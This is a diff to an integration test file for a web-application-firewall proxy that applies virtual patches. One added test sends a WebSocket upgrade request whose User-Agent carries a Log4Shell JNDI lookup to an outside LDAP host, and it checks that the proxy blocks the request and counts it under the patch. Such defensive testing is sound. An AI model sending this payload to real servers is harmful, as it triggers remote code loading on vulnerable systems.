@@ -13,7 +13,7 @@ import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import net from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
-import { TestUpstream, request, startProxy, type TestProxy } from './helpers.js';
+import { TestUpstream, rawRequest, request, startProxy, type TestProxy } from './helpers.js';
 import { realEngine } from '../../src/proxy/ruleset.js';
 import { loadConfig, ConfigError } from '../../src/proxy/config.js';
 import { builtinCatalog, parsePatch } from '../../src/patches/loader.js';
@@ -25,6 +25,8 @@ import { Store } from '../../src/patches/store.js';
 import { CRS_DIR, REPO_ROOT } from '../helpers/shared.js';
 
 const BIN = resolve(REPO_ROOT, 'bin/vpatch.js');
+/** The engine time budget is not under test here: a loaded CI machine must not turn a verdict into 503. */
+const RELAXED = { 'timeouts.engine': '30s' };
 const HAVE_CRS = existsSync(join(CRS_DIR, 'rules', 'REQUEST-901-INITIALIZATION.conf'));
 
 const children: ChildProcess[] = [];
@@ -153,7 +155,7 @@ test('serve with --env test: /status and /metrics follow bundle activate, rollba
   const localDir = expiredLocalPatchDir();
   const up = await new TestUpstream().start();
   const proxy = await startProxy(
-    { env: { VPATCH_ENV: 'test', VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'admin.listen': '127.0.0.1:0' } },
+    { env: { VPATCH_ENV: 'test', VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
     { engine: realEngine },
   );
   t.after(async () => {
@@ -290,7 +292,7 @@ test('a serve without patches (--patches none) reports no bundle, and activating
   s.close();
   const up = await new TestUpstream().start();
   const proxy = await startProxy(
-    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'none', 'rules.env': 'test', 'admin.listen': '127.0.0.1:0' } },
+    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'none', 'rules.env': 'test', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
     { engine: realEngine },
   );
   t.after(async () => {
@@ -306,11 +308,31 @@ test('a serve without patches (--patches none) reports no bundle, and activating
   assert.equal((await send(proxy, '/', log4shell)).status, 200, 'no patches loaded');
 });
 
+test('a WebSocket upgrade a patch blocks is counted under the patch', async (t) => {
+  const up = await new TestUpstream().start();
+  const proxy = await startProxy(
+    { env: { VPATCH_DB: tmpDb() }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
+    { engine: realEngine },
+  );
+  t.after(async () => {
+    await proxy.close();
+    await up.stop();
+  });
+  const res = await rawRequest(
+    proxy.port,
+    'GET /socket HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: ${jndi:ldap://203.0.113.7/a}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
+      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
+  );
+  assert.equal(res.status, 403);
+  const m = (await request(`http://127.0.0.1:${proxy.server.adminAddress!.port}/metrics`)).body;
+  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1);
+});
+
 test('with --watch, an activation recorded without --admin is picked up from the state database', async (t) => {
   const db = tmpDb();
   const up = await new TestUpstream().start();
   const proxy = await startProxy(
-    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'reload.watch': 'true', 'admin.listen': '127.0.0.1:0' } },
+    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'reload.watch': 'true', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
     { engine: realEngine },
   );
   t.after(async () => {
@@ -341,7 +363,7 @@ test('with CRS: patches run first, detect-mode patches leave CRS anomaly scoring
   const db = tmpDb();
   const up = await new TestUpstream().start();
   const proxy = await startProxy(
-    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'rules.crsDir': CRS_DIR, 'rules.paranoia': '1', 'admin.listen': '127.0.0.1:0' } },
+    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'rules.crsDir': CRS_DIR, 'rules.paranoia': '1', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
     { engine: realEngine },
   );
   t.after(async () => {
@@ -437,7 +459,7 @@ test('cluster (--workers 2): the primary reports the bundle the workers serve; a
     return port;
   };
   const [port, adminPort] = [await free(), await free()];
-  const child = spawn(process.execPath, [BIN, 'serve', '--upstream', up.url, '--listen', `127.0.0.1:${port}`, '--admin-listen', `127.0.0.1:${adminPort}`, '--workers', '2', '--env', 'test', '--db', db, '--audit-log', 'off', '--log-level', 'warn'], {
+  const child = spawn(process.execPath, [BIN, 'serve', '--upstream', up.url, '--listen', `127.0.0.1:${port}`, '--admin-listen', `127.0.0.1:${adminPort}`, '--workers', '2', '--env', 'test', '--db', db, '--timeout-engine', '30s', '--audit-log', 'off', '--log-level', 'warn'], {
     env: { ...process.env, VPATCH_ENV: '', VPATCH_DB: '' },
     stdio: ['ignore', 'pipe', 'pipe'],
   });
